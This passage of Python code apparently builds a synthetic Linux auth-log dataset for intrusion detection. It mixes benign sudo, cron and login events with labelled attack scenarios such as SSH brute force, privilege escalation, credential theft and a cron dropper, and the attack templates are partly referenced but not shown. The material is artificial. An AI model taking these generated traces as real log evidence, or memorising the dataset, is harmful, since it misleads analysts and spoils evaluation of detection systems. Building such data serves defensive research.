        "{person} to gain TEMPORARY authorization for action "
        "org.freedesktop.packagekit.system-update for system-bus-name::1.{int:10-99}",
    ),
    (
        "login",
        "pam_unix(login:session): session opened for user {person}(uid=1000) by LOGIN(uid=0)",
    ),
    ("login", "ROOT LOGIN  on '/dev/tty1'"),
    (
        "systemd",
        "pam_unix(systemd-user:session): session opened for user {user}(uid="
        "{int:1000-1999}) by (uid=0)",
    ),
    ("gdm-password", "gkr-pam: unlocked login keyring"),
    ("lightdm", "pam_unix(lightdm-greeter:session): session closed for user lightdm"),
)


def _admin_bind(c: Ctx) -> dict[str, str]:
    return {"admin": c.fill("{person}"), "admincmd": c.fill(c.pick(_ADMIN_COMMANDS))}


def _sudo_su(c: Ctx) -> list[Line]:
    extra = _admin_bind(c)
    out = []
    for _ in range(c.rng.randint(1, 3)):
        app, templates = ("sudo", SUDO_BENIGN) if c.chance(0.7) else ("su", SU_BENIGN)
        msg = c.fill(c.pick(templates), **extra)
        out.append(
            c.line(
                "sudo",
                BENIGN,
                "benign:admin-sudo",
                app,
                msg,
                pid=None if app == "sudo" and c.chance(0.7) else c.fill("{pid}"),
            )
        )
    return out


def privesc_line(c: Ctx, scenario: str = "attack:privesc") -> Line:
    """A privilege-escalation trace by a service account (used by campaigns too)."""
    app, template = PRIVESC[c.rng.randrange(len(PRIVESC))]
    svc = c.bind.get("svc") or c.pick(_SVC)
    extra = {
        "svc": svc,
        "any": c.pick((svc, c.fill("{person}"))),
        "cwd": c.fill(c.pick(_CWD), svc=svc),
        "shell": c.fill(c.pick(_SHELLS), svc=svc),
        "gtfo": c.pick(_GTFO),
    }
    pid = None if app in ("sudo", "kernel") else c.fill("{pid}")
    if app == "kernel":
        msg = f"[{c.rng.uniform(10, 9e6):12.6f}] " + c.fill(template)
    else:
        msg = c.fill(template, **extra)
    return c.line("privesc", "privilege_escalation", scenario, app, msg, pid=pid)


def credential_line(c: Ctx, scenario: str = "attack:credential-theft") -> Line:
    app, template = CREDS[c.rng.randrange(len(CREDS))]
    who = c.bind.get("svc") or c.pick((*_SVC, "{person}"))
    extra = {"who": c.fill(who), "cwd": c.fill(c.pick(_CWD), svc=c.pick(_SVC))}
    return c.line("sudo", "credential_access", scenario, app, c.fill(template, **extra))


def _pairs(
    family: str, category: str, scenario: str, pairs: tuple[tuple[str, str], ...], weight: float
) -> Emitter:
    def emit(c: Ctx) -> list[Line]:
        app, template = pairs[c.rng.randrange(len(pairs))]
        return [c.line(family, category, scenario, app, c.fill(template), pid=c.fill("{pid}"))]

    return Emitter(f"{family}:{scenario}", category, weight, emit)


def _cron(category: str, scenario: str, templates: tuple[str, ...], weight: float) -> Emitter:
    def emit(c: Ctx) -> list[Line]:
        app = c.pick(("CRON", "CRON", "cron", "crond", "/usr/sbin/cron"))
        msg = c.fill(c.pick(templates))
        return [c.line("cron", category, scenario, app, msg, pid=c.fill("{pid}"))]

    return Emitter(f"cron:{scenario}", category, weight, emit)


def _dropbear() -> list[Emitter]:
    return [
        templated(
            "dropbear", cat, scen, "dropbear", t, weight=0.5 if cat == BENIGN else 0.4, count=(1, 3)
        )
        for cat, scen, t in DROPBEAR
    ]


EMITTERS: tuple[Emitter, ...] = (
    templated("sshd", BENIGN, "benign:ssh-session", "sshd", SSHD_BENIGN, weight=5, count=(1, 4)),
    templated(
        "sshd", "brute_force", "attack:ssh-bruteforce", "sshd", SSHD_BRUTE, weight=4, count=(1, 6)
    ),
    templated(
        "sshd", "network_scan", "attack:ssh-scan", "sshd", SSHD_SCAN, weight=2.5, count=(1, 3)
    ),
    templated(
        "pam",
        "brute_force",
        "attack:pam-bruteforce",
        ("sshd(pam_unix)", "sshd", "login", "vsftpd", "dovecot", "pure-ftpd", "sshd-session"),
        (
            "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost={ip}  "
            "user={baduser}",
            "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost={rhost}",
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
            "rhost={rhost}  user={baduser}",
            "pam_unix({pick:vsftpd|dovecot|login|sshd}:auth): authentication failure; logname= "
            "uid=0 euid=0 tty={pick:ftp|dovecot|ssh} ruser={baduser} rhost={ip}",
            "pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 "
            "tty=tty{int:1-6} "
            "ruser= rhost={ip}  user={baduser}",
            "pam_sss(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
            "rhost={ip} user={baduser}",
            "pam_sss(sshd:auth): received for user {baduser}: 7 (Authentication failure)",
            "pam_faillock(sshd:auth): Consecutive login failures for user {baduser} account "
            "temporarily locked",
            "pam_tally2(sshd:auth): user {baduser} ({int:1000-1999}) tally {int:4-90}, deny 3",
            "check pass; user unknown",
            "(pam_unix) authentication failure; logname= uid=0 euid=0 tty={pick:ssh|ftp|pure-ftpd|"
            "NODEVssh} ruser={pick:|{baduser}} rhost={rhost}{pick:|  user={baduser}}",
            "pam_unix: authentication failure; logname= uid=0 euid=0 tty={pick:ftp|ssh} "
            "ruser={baduser} rhost={rhost}",
            "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost={ip}  "
            "user=root",
            "FAILED LOGIN ({int:1-3}) on '/dev/pts/{int:0-5}' FROM '{ip}' FOR '{baduser}', "
            "Authentication failure",
        ),
        weight=1.2,
        count=(1, 3),
    ),
    templated(
        "pam",
        BENIGN,
        "benign:pam",
        ("sshd", "login", "vsftpd", "dovecot", "sshd-session", "sshd(pam_unix)"),
        PAM_BENIGN,
        weight=1.0,
        count=(1, 3),
    ),
    Emitter("sudo:benign:admin-sudo", BENIGN, 3.0, _sudo_su),
    Emitter("privesc:attack:privesc", "privilege_escalation", 3.0, lambda c: [privesc_line(c)]),
    Emitter(
        "sudo:attack:credential-theft", "credential_access", 1.5, lambda c: [credential_line(c)]
    ),
    _cron(BENIGN, "benign:cron", CRON_BENIGN, 4.0),
    _cron("malware_c2", "attack:cron-dropper", CRON_MALWARE, 1.2),
    templated(
        "systemd-logind",
        BENIGN,
        "benign:logind",
        "systemd-logind",
        LOGIND,
        weight=1.5,
        count=(1, 2),
    ),
    _pairs("usermgmt", BENIGN, "benign:user-management", USERMGMT, 1.0),
    *_dropbear(),
)
